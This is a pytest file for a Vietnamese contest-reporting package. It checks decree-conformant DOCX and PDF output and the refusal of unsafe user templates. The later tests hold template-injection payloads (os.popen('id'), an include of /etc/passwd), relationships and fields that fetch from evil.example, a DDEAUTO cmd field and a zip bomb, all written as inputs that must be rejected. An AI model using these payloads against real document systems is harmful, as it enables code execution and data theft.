"""Both outputs of one content: the form on the page, what data can never do, which templates are refused."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Length, Pt

from cuocthi.papers.typesetting import Bounds, NotTypeset
from cuocthi.testing.plugin import missing
from cuocthi_publishing.reports import decree, docx_output
from cuocthi_publishing.reports.content import Paper, tables_of
from cuocthi_publishing.reports.decree import PaperKind
from cuocthi_publishing.reports.docx_output import NotFilled, check_template, fill, shipped_template
from cuocthi_publishing.reports.docx_tables import widths_of
from cuocthi_publishing.reports.pdf_output import SHIPPED, typeset_paper
from cuocthi_publishing.reports.samples import sample, sample_minutes

if TYPE_CHECKING:
    from pathlib import Path

    from docx.document import Document as Opened

    Draw = Callable[..., Paper]


def opened(content: bytes) -> Opened:
    return Document(io.BytesIO(content))


@pytest.fixture(scope="module")
def filled() -> Opened:
    return opened(fill(sample().as_data()))


@pytest.fixture(scope="module")
def template() -> bytes:
    return shipped_template()


def texts(document: Opened) -> list[str]:
    return [paragraph.text for paragraph in document.paragraphs]


def millimetres(length: Length | None) -> int:
    """A length to the millimetre: files count in twentieths of a point."""
    assert length is not None
    return round(float(length.mm))


def pages(pdf: bytes) -> int:
    return len(re.findall(rb"/Type ?/Page\b", pdf))


# --- DOCX -------------------------------------------------------------------------------------------------------------


def test_every_section_has_the_sheet_of_the_decree(filled: Opened) -> None:
    # The paper itself and two annexes.
    assert len(filled.sections) == 3
    for section in filled.sections:
        assert (millimetres(section.page_width), millimetres(section.page_height)) == (210, 297)
        assert 20 <= millimetres(section.top_margin) <= 25
        assert 20 <= millimetres(section.bottom_margin) <= 25
        assert 30 <= millimetres(section.left_margin) <= 35
        assert 15 <= millimetres(section.right_margin) <= 20
        assert section.different_first_page_header_footer
        numbers = section._sectPr.find(qn("w:pgNumType"))
        assert numbers is not None
        assert numbers.get(qn("w:start")) == "1"


def test_page_numbers_stand_in_the_middle_of_the_top_but_not_on_a_first_page(filled: Opened) -> None:
    header = filled.sections[0].header
    assert "PAGE" in header._element.xml
    assert header.paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert "PAGE" not in filled.sections[0].first_page_header._element.xml


def test_faces_and_sizes_are_those_of_the_annex(filled: Opened) -> None:
    normal = filled.styles["Normal"]
    assert (normal.font.name, normal.font.size) == ("Times New Roman", Pt(14))
    left, right = filled.tables[0].rows[0].cells
    heads = {p.text: p.runs[0] for cell in (left, right) for p in cell.paragraphs if p.text}
    assert heads["ỦY BAN NHÂN DÂN TỈNH"].font.size == heads["SỞ THÔNG TIN VÀ TRUYỀN THÔNG"].font.size == Pt(12)
    assert not heads["ỦY BAN NHÂN DÂN TỈNH"].bold
    assert heads["SỞ THÔNG TIN VÀ TRUYỀN THÔNG"].bold
    assert heads[decree.NATIONAL_TITLE].bold
    assert (heads[decree.MOTTO].bold, heads[decree.MOTTO].font.size) == (True, Pt(13))
    assert heads[sample().place_and_date].italic
    foot = filled.tables[-3].rows[0].cells[0].paragraphs
    assert (foot[0].text, foot[0].runs[0].font.size, foot[0].runs[0].italic) == ("Nơi nhận:", Pt(12), True)
    assert {p.runs[0].font.size for p in foot[1:] if p.text} == {Pt(11)}
    body = next(p for p in filled.paragraphs if p.text.startswith("Có 1.212"))
    style = body.style
    assert style is not None
    assert style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY
    assert millimetres(style.paragraph_format.first_line_indent) == 10
    assert style.paragraph_format.space_after == Pt(6)


def test_the_parts_stand_in_the_order_of_the_decree(filled: Opened) -> None:
    said = texts(filled)
    order = [
        "BÁO CÁO",
        "Kính gửi: Ủy ban nhân dân tỉnh",
        "QUYẾT ĐỊNH:",
        "I. KẾT QUẢ THAM GIA",
        "Phụ lục I",
        "Phụ lục II",
    ]
    assert [said.index(text) for text in order] == sorted(said.index(text) for text in order)
    signature = [p.text for p in filled.tables[-3].rows[0].cells[1].paragraphs if p.text]
    assert signature == ["TM. BAN TỔ CHỨC", "KT. TRƯỞNG BAN", "PHÓ TRƯỞNG BAN", "Nguyễn Thị Đào"]
    assert not any("{%" in text and "%}" in text and "không phải" not in text for text in said)


def test_tables_hold_the_same_cells_and_repeat_their_head(filled: Opened) -> None:
    made = filled.tables[1]
    table = tables_of(sample())[0]
    assert [[cell.text for cell in row.cells] for row in made.rows] == [
        [title for title, _, _ in table.columns],
        *table.rows,
        table.total,
    ]
    assert made.rows[0]._tr.find(qn("w:trPr")).find(qn("w:tblHeader")) is not None
    widths = [int(column.get(qn("w:w"))) for column in made._tbl.tblGrid.findall(qn("w:gridCol"))]
    assert abs(sum(widths) - round(decree.TEXT_WIDTH * 1440 / 25.4)) <= len(widths)


@pytest.mark.parametrize("shares", [[1, 6, 2, 2], [1, 5, 6, 4], [1, 6, 2, 2, 2, 2, 2]])
def test_widths_fill_the_line_and_the_numbers_stay_narrow(shares: list[int]) -> None:
    widths = widths_of(shares)
    assert sum(widths) == pytest.approx(decree.TEXT_WIDTH)
    assert widths[0] == 10


def test_data_are_never_code() -> None:
    document = opened(fill(sample().as_data()))
    assert any("{{ đây là dữ liệu }} và {% không phải %}" in text for text in texts(document))
    assert "<tỉnh> & bạn" in document.tables[1].rows[2].cells[1].text


def test_minutes_are_signed_at_two_places_and_what_is_not_there_leaves_no_trace() -> None:
    document = opened(fill(sample_minutes().as_data()))
    left, right = document.tables[-2].rows[0].cells
    assert left.paragraphs[0].text == "THƯ KÝ"
    assert right.paragraphs[0].text == "TM. BAN TỔ CHỨC"
    assert not any(text.startswith("Kính gửi") for text in texts(document))
    assert len(document.sections) == 1


def test_the_report_of_a_contest_agrees_with_its_data(draw: Draw) -> None:
    paper = draw(PaperKind.REPORT)
    document = opened(fill(paper.as_data()))
    written = [[[cell.text for cell in row.cells] for row in table.rows] for table in document.tables]
    for table in tables_of(paper):
        rows = [[title for title, _, _ in table.columns], *map(list, table.rows)]
        assert [*rows, list(table.total)] in written or rows in written
    said = texts(document)
    assert all(block.text in said for block in paper.blocks if block.kind in {"text", "item", "part"})


# --- PDF --------------------------------------------------------------------------------------------------------------


def test_the_pdf_has_the_paper_and_each_annex_on_pages_of_its_own() -> None:
    pdf = typeset_paper(sample())
    assert pages(pdf) == 3
    assert typeset_paper(sample()) == pdf
    assert pages(typeset_paper(sample_minutes())) == 1
    assert typeset_paper(sample(), picture=True).startswith(b"\x89PNG")
    assert b"Tinos" in pdf


def test_the_pdf_says_what_the_docx_says(draw: Draw, tmp_path: Path) -> None:
    reader = shutil.which("pdftotext") or missing("pdftotext", "the text of a PDF cannot be read")
    paper = draw(PaperKind.REPORT)
    (tmp_path / "a.pdf").write_bytes(typeset_paper(paper))
    done = subprocess.run([reader, "-raw", str(tmp_path / "a.pdf"), "-"], capture_output=True, check=True)
    said = "".join(done.stdout.decode().split())
    for text in (paper.title, paper.subject, decree.NATIONAL_TITLE, decree.MOTTO, paper.annexes[0].title):
        assert "".join(text.split()) in said
    for table in tables_of(paper):
        for row in (*table.rows, table.total):
            assert "".join("".join(row).split()) in said


# --- in an office program ---------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_the_docx_opens_in_libreoffice_and_gives_the_same_pages(draw: Draw, tmp_path: Path) -> None:
    office = shutil.which("soffice") or missing("LibreOffice", "no office program opens the report")
    paper = draw(PaperKind.REPORT)
    (tmp_path / "report.docx").write_bytes(fill(paper.as_data()))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [
        office,
        profile,
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "report.docx"),
    ]
    subprocess.run(command, capture_output=True, check=True, timeout=200)
    made = (tmp_path / "report.pdf").read_bytes()
    assert pages(made) >= 1 + len(paper.annexes)


# --- templates of one's own -------------------------------------------------------------------------------------------


def changed(template: bytes, parts: dict[str, Callable[[bytes], bytes]], more: dict[str, bytes] | None = None) -> bytes:
    """The template with some of its parts changed and others added."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as source, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry)
            target.writestr(entry.filename, parts.get(entry.filename, lambda same: same)(content))
        for name, content in (more or {}).items():
            target.writestr(name, content)
    return written.getvalue()


def with_text(template: bytes, text: str) -> bytes:
    """The template with another text in the place of the title."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").encode()
    return changed(template, {"word/document.xml": lambda xml: xml.replace(b"{{ title }}", escaped)})


def test_the_template_that_comes_along_is_a_template(template: bytes) -> None:
    for paper in (sample(), sample_minutes()):
        check_template(template, paper.as_data())
    own = with_text(template, "{{ title }} (mẫu riêng)")
    assert "BÁO CÁO (mẫu riêng)" in texts(opened(fill(sample().as_data(), template=own)))


@pytest.mark.parametrize(
    "text",
    [
        "{{ nowhere }}",
        "{{ title",
        "{% for %}",
        "{{ title.__class__.__mro__ }}",
        "{{ ''.__class__.__base__.__subclasses__() }}",
        "{{ blocks.append(1) }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    ],
)
def test_a_template_with_a_mistake_or_worse_is_refused(template: bytes, text: str) -> None:
    with pytest.raises(NotFilled) as refusal:
        check_template(with_text(template, text), sample().as_data())
    assert refusal.value.field == "docx"


def test_a_template_that_never_ends_is_given_up(template: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_output, "_BOUNDS", Bounds(1024, 3))
    loops = "".join(f"{{% for {letter} in range(99999) %}}" for letter in "abc") + "{% endfor %}" * 3
    with pytest.raises(NotFilled, match="more time or memory"):
        fill(sample().as_data(), template=with_text(template, loops))


def test_what_would_be_fetched_from_elsewhere_is_refused(template: bytes) -> None:
    outside = (
        b'<Relationship Id="rId99" Target="https://example.com/a.png" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>'
    )
    rels = "word/_rels/document.xml.rels"
    with pytest.raises(NotFilled, match="fetches something from elsewhere"):
        check_template(
            changed(template, {rels: lambda xml: xml.replace(b"</Relationships>", outside)}), sample().as_data()
        )
    link = outside.replace(b"/image", b"/hyperlink")
    check_template(changed(template, {rels: lambda xml: xml.replace(b"</Relationships>", link)}), sample().as_data())


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEAD = (
    '<?xml version="1.0" encoding="{}"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
)


def relationship(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
    """A part of relationships in which one leads out."""
    one = f'<Relationship Id="rIdX" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return (HEAD.format(encoding) + one).encode(encoding)


@pytest.mark.parametrize(
    "part",
    [
        relationship("attachedTemplate", "http://evil.example/t.dotm"),
        relationship("attachedTemplate", "http://evil.example/relationships/hyperlink"),
        relationship("attachedTemplate", "http://evil.example/t.dotm", "&#69;xternal"),
        relationship("attachedTemplate", "http://evil.example/t.dotm", encoding="utf-16"),
        relationship("image", "http://evil.example/a.png", "Internal"),
        relationship("aFChunk", "chunk.html", "Internal"),
        b"<Relationships",
        b"<!DOCTYPE a [<!ENTITY e 'External'>]><a/>",
    ],
    ids=["plainly", "named like a link", "by its number", "in UTF-16", "inside", "a chunk", "broken", "entities"],
)
def test_a_relationship_that_leads_out_is_found_however_it_is_written(template: bytes, part: bytes) -> None:
    with pytest.raises(NotFilled, match="fetches something from elsewhere"):
        check_template(changed(template, {}, {"word/_rels/settings.xml.rels": part}), sample().as_data())


@pytest.mark.parametrize(
    "words",
    [
        '<w:r><w:instrText>INCLUDEPICTURE "http://evil.example/p.png" \\d</w:instrText></w:r>',
        "<w:r><w:instrText> inc</w:instrText></w:r><w:r><w:instrText>ludetext x</w:instrText></w:r>",
        "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
        (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>LINK Excel.Sheet x</w:instrText></w:r>'
        ),
        "{{ '<w:r><w:instrText>LINK x</w:instrText></w:r>'|safe }}",
    ],
)
def test_a_field_that_fetches_is_found_in_the_template_or_in_what_it_writes(template: bytes, words: str) -> None:
    before, after = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    field = f"<w:p>{before}{words}{after}</w:p><w:sectPr".encode()
    own = changed(template, {"word/document.xml": lambda xml: xml.replace(b"<w:sectPr", field, 1)})
    with pytest.raises(NotFilled, match="fetches something from elsewhere"):
        check_template(own, sample().as_data())


def test_a_link_and_a_number_of_the_page_fetch_nothing(template: bytes) -> None:
    field = b'<w:p><w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="HYPERLINK x"/></w:p><w:sectPr'
    link = relationship("hyperlink", "https://example.com/quy-che")
    check_template(
        changed(
            template,
            {"word/document.xml": lambda xml: xml.replace(b"<w:sectPr", field, 1)},
            {"word/_rels/fontTable.xml.rels": link},
        ),
        sample().as_data(),
    )


def test_archives_that_grow_too_large_are_refused(template: bytes) -> None:
    bomb = changed(template, {}, {"word/media/a.bin": b"\0" * (40 * 2**20)})
    assert len(bomb) < 2**20
    with pytest.raises(NotFilled, match="cannot be unpacked"):
        check_template(bomb, sample().as_data())
    crowd = changed(template, {}, {f"word/media/{number}.txt": b"a" for number in range(400)})
    with pytest.raises(NotFilled, match="cannot be unpacked"):
        check_template(crowd, sample().as_data())


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"a" * 100])
def test_what_is_no_document_is_no_template(content: bytes) -> None:
    with pytest.raises(NotFilled, match="no DOCX file"):
        check_template(content, sample().as_data())


def test_a_typst_template_of_ones_own_gets_the_same_data() -> None:
    own = "#let data = json(bytes(sys.inputs.data))\n#data.title #data.form.page_width"
    assert pages(typeset_paper(sample(), template=own)) == 1
    with pytest.raises(NotTypeset, match="Line 2"):
        typeset_paper(sample(), template="= A\n#data.nowhere")
    assert "sys.inputs.data" in SHIPPED.read_text("utf-8")


def test_the_web_process_loads_neither_library() -> None:
    told = (
        "import sys; from cuocthi_publishing.reports import views, design, jobs;"
        "print([name for name in ('docx', 'docxtpl', 'lxml', 'typst') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", told], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
